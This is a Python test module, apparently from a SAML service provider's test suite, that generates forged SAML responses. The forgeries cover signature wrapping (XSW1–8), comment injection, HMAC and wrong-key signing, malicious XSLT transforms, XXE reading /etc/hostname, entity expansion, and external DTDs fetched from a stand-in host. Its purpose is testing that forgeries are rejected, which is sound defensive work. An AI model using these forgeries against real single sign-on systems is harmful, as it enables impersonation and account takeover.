"""Forgeries of SAML responses: each of ATTACKS takes a valid response and what the attacker has, and returns what he sends.

What he has is told by `Kit`: always the valid response of some person of the provider; for those of INSIDER also the provider's
key (a provider that lies, or that of another tenant). The person who should never come out is `VICTIM`.
"""

import copy
import datetime as dt
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import xmlsec
from lxml import etree

from tests.peers.saml import make_key

VICTIM = "root@studio.example"
NS = {
    "p": "urn:oasis:names:tc:SAML:2.0:protocol",
    "a": "urn:oasis:names:tc:SAML:2.0:assertion",
    "d": "http://www.w3.org/2000/09/xmldsig#",
}
SIGNATURE, ASSERTION = f"{{{NS['d']}}}Signature", f"{{{NS['a']}}}Assertion"
RSA_SHA256, SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "http://www.w3.org/2001/04/xmlenc#sha256"
EXCLUSIVE = "http://www.w3.org/2001/10/xml-exc-c14n#"


@dataclass(frozen=True)
class Kit:
    """What an attacker has: the provider's folder with its key, if he is inside, and a folder to draw keys in."""

    provider: Path
    own: Path
    another_request: str = "id-of-another-request"
    home: str = "http://10.0.0.1:80"  # where a document makes the reader call, if it can


# --- parts -----------------------------------------------------------------------------------------------------------------


def parsed(xml):
    return etree.fromstring(xml)


def told(root) -> bytes:
    return etree.tostring(root)


def one(node, path):
    return node.find(path, NS)


def assertion(root):
    return one(root, "a:Assertion")


def as_victim(node):
    """Make an assertion, or what holds one, say the victim."""
    for name_id in node.iterfind(".//a:NameID", NS):
        name_id.text = VICTIM
    for value in node.iterfind(".//a:Attribute[@Name='email']/a:AttributeValue", NS):
        value.text = VICTIM
    return node


def bare(node):
    """Return a copy of a signed element without its own signature."""
    made = copy.deepcopy(node)
    signature = made.find(SIGNATURE)
    if signature is not None:
        made.remove(signature)
    return made


def sign(node, key: Path, *, method=RSA_SHA256, digest=SHA256, certificate: Path | None = None, secret: bytes | None = None):
    """Sign an element anew, in the place where the schema wants the signature."""
    old = node.find(SIGNATURE)
    if old is not None:
        node.remove(old)
    signature = etree.fromstring(
        f'<ds:Signature xmlns:ds="{NS["d"]}"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="{EXCLUSIVE}"/>'
        f'<ds:SignatureMethod Algorithm="{method}"/><ds:Reference URI="#{node.get("ID")}"><ds:Transforms>'
        f'<ds:Transform Algorithm="{NS["d"]}enveloped-signature"/><ds:Transform Algorithm="{EXCLUSIVE}"/></ds:Transforms>'
        f'<ds:DigestMethod Algorithm="{digest}"/><ds:DigestValue/></ds:Reference></ds:SignedInfo><ds:SignatureValue/>'
        f"<ds:KeyInfo>{'<ds:X509Data/>' if certificate else '<ds:KeyName/>'}</ds:KeyInfo></ds:Signature>"
    )
    node.insert(1 if one(node, "a:Issuer") is not None else 0, signature)
    root = node.getroottree().getroot()
    xmlsec.tree.add_ids(root, ["ID"])
    context = xmlsec.SignatureContext()
    if secret is not None:
        context.key = xmlsec.Key.from_binary_data(xmlsec.KeyData.HMAC, secret)
    else:
        context.key = xmlsec.Key.from_file(str(key), xmlsec.KeyFormat.PEM)
        if certificate is not None:
            context.key.load_cert_from_file(str(certificate), xmlsec.KeyFormat.CERT_PEM)
    context.sign(signature)


def signed_anew(root, folder: Path, **more) -> bytes:
    """Sign the assertions and then the response with a provider's key."""
    for node in root.iterfind("a:Assertion", NS):
        sign(node, folder / "idp.key", **more)
    sign(root, folder / "idp.key", **more)
    return told(root)


def changed(change: Callable, *, at: str = "") -> Callable:
    """Return an insider's attack: change the document, or each element at a path, and sign it anew."""

    def attack(xml, kit):
        root = parsed(xml)
        for node in root.iterfind(at, NS) if at else [root]:
            change(node)
        return signed_anew(root, kit.provider)

    return attack


def moment(seconds: int) -> str:
    return (dt.datetime.now(dt.UTC) + dt.timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")


def drop(node):
    node.getparent().remove(node)


# --- signature wrapping, numbered as in the literature ----------------------------------------------------------------------


def xsw1(xml, _):
    """The signed response within the signature of a forged one."""
    root = parsed(xml)
    forged = as_victim(copy.deepcopy(root))
    forged.set("ID", "_forged_response")
    forged.find(SIGNATURE).append(bare(root))
    return told(forged)


def xsw2(xml, _):
    """The signed response before the signature of a forged one."""
    root = parsed(xml)
    forged = as_victim(copy.deepcopy(root))
    forged.set("ID", "_forged_response")
    forged.find(SIGNATURE).addprevious(bare(root))
    return told(forged)


def _forged(root):
    forged = as_victim(bare(assertion(root)))
    forged.set("ID", "_forged_assertion")
    return forged


def xsw3(xml, _):
    """A forged assertion before the signed one."""
    root = parsed(xml)
    assertion(root).addprevious(_forged(root))
    return told(root)


def xsw4(xml, _):
    """The signed assertion within a forged one."""
    root = parsed(xml)
    forged, signed = _forged(root), assertion(root)
    signed.addprevious(forged)
    forged.append(signed)
    return told(root)


def xsw5(xml, _):
    """A forged assertion with the signature, and what it signs at the end."""
    root = parsed(xml)
    signed = assertion(root)
    original = bare(signed)
    as_victim(signed).set("ID", "_forged_assertion")
    root.append(original)
    return told(root)


def xsw6(xml, _):
    """The same, what is signed within the signature."""
    root = parsed(xml)
    signed = assertion(root)
    original = bare(signed)
    as_victim(signed).set("ID", "_forged_assertion")
    signed.find(SIGNATURE).append(original)
    return told(root)


def xsw7(xml, _):
    """A forged assertion of the same ID within extensions."""
    root = parsed(xml)
    signed = assertion(root)
    extensions = etree.Element(f"{{{NS['p']}}}Extensions")
    extensions.append(as_victim(bare(signed)))
    one(root, "p:Status").addprevious(extensions)
    return told(root)


def xsw8(xml, _):
    """What is signed within an object of the signature, in a forged assertion of the same ID."""
    root = parsed(xml)
    signed = assertion(root)
    original = bare(signed)
    as_victim(signed)
    etree.SubElement(signed.find(SIGNATURE), f"{{{NS['d']}}}Object").append(original)
    return told(root)


def without_message_signature(wrap):
    """Return a wrapping of a response whose message signature was taken away: only the assertion is signed."""

    def attack(xml, kit):
        root = parsed(xml)
        root.remove(root.find(SIGNATURE))
        return wrap(told(root), kit)

    return attack


# --- comments ----------------------------------------------------------------------------------------------------------------


def _with_comment(xml, pattern):
    return re.sub(pattern, rb"\g<1>\g<2><!---->\g<3>\g<4>", xml, count=1)


def comment_in_name_id(xml, _):
    """Cut the NameID by a comment, which the signature does not see: `user@evil.com<!---->.studio.example`."""
    return _with_comment(xml, rb"(NameID[^>]*>)([^<]+?)(\.studio\.example|-[0-9]+)(<)")


def comment_in_attribute(xml, _):
    """The same in the e-mail."""
    return _with_comment(xml, rb'(Name="email".*?AttributeValue[^>]*>)([^<]+?)(\.[^<]*)(<)')


def instruction_in_name_id(xml, _):
    """Cut it by a processing instruction, which the signature does see."""
    return re.sub(rb"(NameID[^>]*>)([^<]+?)(\.studio\.example|-[0-9]+)(<)", rb"\g<1>\g<2><?x y?>\g<3>\g<4>", xml, count=1)


# --- signatures ----------------------------------------------------------------------------------------------------------------


def signatures_stripped(xml, _):
    root = as_victim(parsed(xml))
    for signature in list(root.iter(SIGNATURE)):
        drop(signature)
    return told(root)


def assertion_changed(xml, _):
    return told(as_victim(parsed(xml)))


def signatures_emptied(xml, _):
    root = as_victim(parsed(xml))
    for signature in root.iter(SIGNATURE):
        for child in list(signature):
            signature.remove(child)
    return told(root)


def unsigned_assertion(xml, kit):
    root = parsed(xml)
    assertion(root).remove(assertion(root).find(SIGNATURE))
    sign(root, kit.provider / "idp.key")
    return told(root)


def unsigned_response(xml, _):
    root = parsed(xml)
    root.remove(root.find(SIGNATURE))
    return told(root)


def _own(kit) -> Path:
    if not (kit.own / "idp.key").exists():
        kit.own.mkdir(parents=True, exist_ok=True)
        make_key(kit.own)
    return kit.own


def wrong_key(xml, kit):
    return signed_anew(as_victim(parsed(xml)), _own(kit))


def wrong_key_with_its_certificate(xml, kit):
    return signed_anew(as_victim(parsed(xml)), _own(kit), certificate=_own(kit) / "idp.pem")


def sha1_signature(xml, kit):
    return signed_anew(parsed(xml), kit.provider, method=f"{NS['d']}rsa-sha1")


def sha1_digest(xml, kit):
    return signed_anew(parsed(xml), kit.provider, digest=f"{NS['d']}sha1")


def hmac_with_the_certificate(xml, kit):
    """Sign by HMAC with what everybody knows as the secret."""
    method, secret = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", (kit.provider / "idp.pem").read_bytes()
    return signed_anew(as_victim(parsed(xml)), kit.provider, method=method, secret=secret)


def hmac_truncated(xml, kit):
    """The same, cut to no bits at all."""
    root = parsed(hmac_with_the_certificate(xml, kit))
    for method in root.iter(f"{{{NS['d']}}}SignatureMethod"):
        etree.SubElement(method, f"{{{NS['d']}}}HMACOutputLength").text = "0"
    for value in root.iter(f"{{{NS['d']}}}SignatureValue"):
        value.text = ""
    return told(root)


def xslt_transform(xml, kit):
    """A stylesheet among the transforms, which would run before anything is verified."""
    return with_stylesheet(xml, f"<xsl:value-of select=\"document('{kit.home}/x.xml')\"/>")


def xslt_that_takes_long(xml, _):
    """One that counts to a million; each layer more is ten times as long."""
    ten = '<xsl:for-each select="(//*)[position() &lt; 11]">'
    return with_stylesheet(xml, ten * 6 + "x" + "</xsl:for-each>" * 6)


def with_stylesheet(xml, template):
    sheet = (
        f'<ds:Transform xmlns:ds="{NS["d"]}" Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">'
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        f"{template}</xsl:template></xsl:stylesheet></ds:Transform>"
    )
    root = parsed(xml)
    for transforms in root.iter(f"{{{NS['d']}}}Transforms"):
        transforms.insert(0, etree.fromstring(sheet))
    return told(root)


def xpath_transform(xml, kit):
    """A transform that leaves nothing of the document to be signed: rightly signed, yet it says nothing."""
    root = as_victim(parsed(xml))
    for transforms in root.iter(f"{{{NS['d']}}}Transforms"):
        made = etree.SubElement(transforms, f"{{{NS['d']}}}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116")
        etree.SubElement(made, f"{{{NS['d']}}}XPath").text = "false()"
    return told(root)


def whole_document_reference(xml, _):
    root = as_victim(parsed(xml))
    for reference in root.iter(f"{{{NS['d']}}}Reference"):
        reference.set("URI", "")
    return told(root)


def outside_reference(xml, kit):
    root = as_victim(parsed(xml))
    for reference in root.iter(f"{{{NS['d']}}}Reference"):
        reference.set("URI", f"{kit.home}/assertion.xml")
    return told(root)


# --- documents ---------------------------------------------------------------------------------------------------------------


def external_entity(xml, _):
    return b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>' + re.sub(
        rb"(<[^>]*NameID[^>]*>)[^<]+", rb"\g<1>&x;", xml, count=1
    )


def entity_expansion(xml, _):
    layers = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
    return b'<!DOCTYPE r [<!ENTITY e0 "lol">' + layers + b"]>" + re.sub(rb"(<[^>]*NameID[^>]*>)[^<]+", rb"\g<1>&e9;", xml, count=1)


def external_dtd(xml, kit):
    return f'<!DOCTYPE r SYSTEM "{kit.home}/evil.dtd">'.encode() + xml


def duplicate_id(xml, _):
    root = parsed(xml)
    forged = as_victim(copy.deepcopy(assertion(root)))
    assertion(root).addprevious(forged)
    return told(root)


def two_assertions(xml, kit):
    root = parsed(xml)
    second = as_victim(copy.deepcopy(assertion(root)))
    second.set("ID", "_second")
    assertion(root).addnext(second)
    return signed_anew(root, kit.provider)


def encrypted_nothing(xml, kit):
    root = parsed(xml)
    drop(assertion(root))
    etree.SubElement(root, f"{{{NS['a']}}}EncryptedAssertion")
    return signed_anew(root, kit.provider)


def encrypted_and_plain(xml, kit):
    root = parsed(xml)
    etree.SubElement(root, f"{{{NS['a']}}}EncryptedAssertion")
    return signed_anew(root, kit.provider)


def no_assertion(xml, kit):
    root = parsed(xml)
    drop(assertion(root))
    return signed_anew(root, kit.provider)


def oversized(xml, kit):
    """Twenty megabytes of padding in an attribute, rightly signed."""
    root = parsed(xml)
    value = one(root, ".//a:Attribute[@Name='name']/a:AttributeValue")
    value.text = "x" * 20_000_000
    return signed_anew(root, kit.provider)


def deep(xml, _):
    """A thousand elements within each other."""
    return xml.replace(b"</", b"<x>" * 1000 + b"</x>" * 1000 + b"</", 1)


def not_xml(*_):
    return b"\x00\x01 no xml"


def other_message(xml, kit):
    """A logout request where a response is awaited."""
    root = parsed(xml)
    made = etree.Element(f"{{{NS['p']}}}LogoutRequest", ID="_l", Version="2.0", IssueInstant=moment(0), nsmap={"p": NS["p"]})
    made.append(copy.deepcopy(one(root, "a:Issuer")))
    name_id = etree.SubElement(made, f"{{{NS['a']}}}NameID")
    name_id.text = VICTIM
    sign(made, kit.provider / "idp.key")
    return told(made)


def _status(node):
    one(node, "p:Status/p:StatusCode").set("Value", "urn:oasis:names:tc:SAML:2.0:status:Responder")


def _set(name, value):
    return lambda node: node.set(name, value() if callable(value) else value)


def _unset(name):
    return lambda node: node.attrib.pop(name, None)


def _text(value):
    def change(node):
        node.text = value

    return change


def _unsolicited(root):
    root.attrib.pop("InResponseTo", None)
    for node in root.iterfind(CONFIRMATION, NS):
        node.attrib.pop("InResponseTo", None)


def _answers(request):
    def change(root):
        root.set("InResponseTo", request)
        for node in root.iterfind(CONFIRMATION, NS):
            node.set("InResponseTo", request)

    return change


def answers_another(xml, kit):
    return changed(_answers(kit.another_request))(xml, kit)


def replay(xml, _):
    """The very same response again: who judges must remember that it was used."""
    return xml


CONFIRMATION = ".//a:SubjectConfirmationData"
CONDITIONS = ".//a:Conditions"
AUDIENCE = ".//a:Audience"

WRAPPING = {f"xsw{n}": wrap for n, wrap in enumerate((xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8), 1)}
OUTSIDER: dict[str, Callable] = {
    **WRAPPING,
    **{
        f"{name}_of_an_assertion": without_message_signature(wrap)
        for name, wrap in WRAPPING.items()
        if name not in {"xsw1", "xsw2"}
    },
    "comment_in_name_id": comment_in_name_id,
    "comment_in_attribute": comment_in_attribute,
    "instruction_in_name_id": instruction_in_name_id,
    "signatures_stripped": signatures_stripped,
    "signatures_emptied": signatures_emptied,
    "assertion_changed": assertion_changed,
    "unsigned_response": unsigned_response,
    "wrong_key": wrong_key,
    "wrong_key_with_its_certificate": wrong_key_with_its_certificate,
    "hmac_with_the_certificate": hmac_with_the_certificate,
    "hmac_truncated": hmac_truncated,
    "xslt_transform": xslt_transform,
    "xslt_that_takes_long": xslt_that_takes_long,
    "xpath_transform": xpath_transform,
    "whole_document_reference": whole_document_reference,
    "outside_reference": outside_reference,
    "external_entity": external_entity,
    "entity_expansion": entity_expansion,
    "external_dtd": external_dtd,
    "duplicate_id": duplicate_id,
    "deep": deep,
    "not_xml": not_xml,
    "replay": replay,
}
INSIDER: dict[str, Callable] = {
    "unsigned_assertion": unsigned_assertion,
    "sha1_signature": sha1_signature,
    "sha1_digest": sha1_digest,
    "wrong_audience": changed(_text("https://other.test/saml/metadata"), at=AUDIENCE),
    "no_audience": changed(drop, at=".//a:AudienceRestriction"),
    "wrong_recipient": changed(_set("Recipient", "https://other.test/saml/acs"), at=CONFIRMATION),
    "recipient_begins_right": changed(lambda node: node.set("Recipient", node.get("Recipient") + ".evil.test/"), at=CONFIRMATION),
    "recipient_holds_it": changed(
        lambda node: node.set("Recipient", "https://evil.test/?" + node.get("Recipient")), at=CONFIRMATION
    ),
    "no_recipient": changed(_unset("Recipient"), at=CONFIRMATION),
    "wrong_destination": changed(_set("Destination", "https://other.test/saml/acs")),
    "destination_begins_right": changed(lambda node: node.set("Destination", node.get("Destination") + ".evil.test/")),
    "empty_destination": changed(_set("Destination", "")),
    "no_destination": changed(_unset("Destination")),
    "wrong_issuer": changed(_text("https://other.example/metadata"), at=".//a:Issuer"),
    "wrong_issuer_of_the_response": changed(_text("https://other.example/metadata"), at="a:Issuer"),
    "wrong_issuer_of_the_assertion": changed(_text("https://other.example/metadata"), at="a:Assertion/a:Issuer"),
    "no_issuer_of_the_response": changed(drop, at="a:Issuer"),
    "answers_another": answers_another,
    "unsolicited": changed(_unsolicited),
    "no_in_response_to_of_the_response": changed(_unset("InResponseTo")),
    "no_in_response_to_of_the_confirmation": changed(_unset("InResponseTo"), at=CONFIRMATION),
    "wrong_in_response_to_of_the_confirmation": changed(_set("InResponseTo", "another"), at=CONFIRMATION),
    "confirmation_expired": changed(_set("NotOnOrAfter", lambda: moment(-600)), at=CONFIRMATION),
    "confirmation_without_an_end": changed(_unset("NotOnOrAfter"), at=CONFIRMATION),
    "confirmation_not_begun": changed(_set("NotBefore", lambda: moment(600)), at=CONFIRMATION),
    "conditions_expired": changed(_set("NotOnOrAfter", lambda: moment(-600)), at=CONDITIONS),
    "conditions_not_begun": changed(_set("NotBefore", lambda: moment(600)), at=CONDITIONS),
    "conditions_of_a_year": changed(_set("NotOnOrAfter", lambda: moment(31_536_000)), at=CONDITIONS),
    "no_conditions": changed(drop, at=CONDITIONS),
    "no_confirmation": changed(drop, at=".//a:SubjectConfirmation"),
    "holder_of_key": changed(_set("Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"), at=".//a:SubjectConfirmation"),
    "session_over": changed(_set("SessionNotOnOrAfter", lambda: moment(-600)), at=".//a:AuthnStatement"),
    "no_authentication": changed(drop, at=".//a:AuthnStatement"),
    "empty_name_id": changed(_text(""), at=".//a:NameID"),
    "name_id_of_blanks": changed(_text("  \n "), at=".//a:NameID"),
    "no_name_id": changed(drop, at=".//a:NameID"),
    "name_id_for_another": changed(_set("SPNameQualifier", "https://other.test/saml/metadata"), at=".//a:NameID"),
    "no_attributes": changed(drop, at=".//a:AttributeStatement"),
    "repeated_attribute": changed(lambda node: node.append(copy.deepcopy(node[0])), at=".//a:AttributeStatement"),
    "failed_status": changed(_status),
    "old_version": changed(_set("Version", "1.1")),
    "two_assertions": two_assertions,
    "no_assertion": no_assertion,
    "encrypted_nothing": encrypted_nothing,
    "encrypted_and_plain": encrypted_and_plain,
    "oversized": oversized,
    "other_message": other_message,
}
ATTACKS = {**OUTSIDER, **INSIDER}
# What python3-saml takes even at its strictest: who signs people in must mind these himself.
UNMINDED = frozenset({
    "replay", "unsolicited", "no_in_response_to_of_the_response", "no_in_response_to_of_the_confirmation",
    "no_audience", "no_recipient", "recipient_begins_right", "recipient_holds_it", "no_destination", "destination_begins_right",
    "confirmation_without_an_end", "conditions_of_a_year", "name_id_of_blanks", "no_issuer_of_the_response",
    # Harmless there: it reads past what cuts, and keeps the whole text that was signed.
    "comment_in_name_id", "comment_in_attribute", "instruction_in_name_id",
})  # fmt: skip
# What it refuses only after it has run: the stylesheet of somebody who has signed nothing.
RUN_FIRST = frozenset({"xslt_transform", "xslt_that_takes_long"})
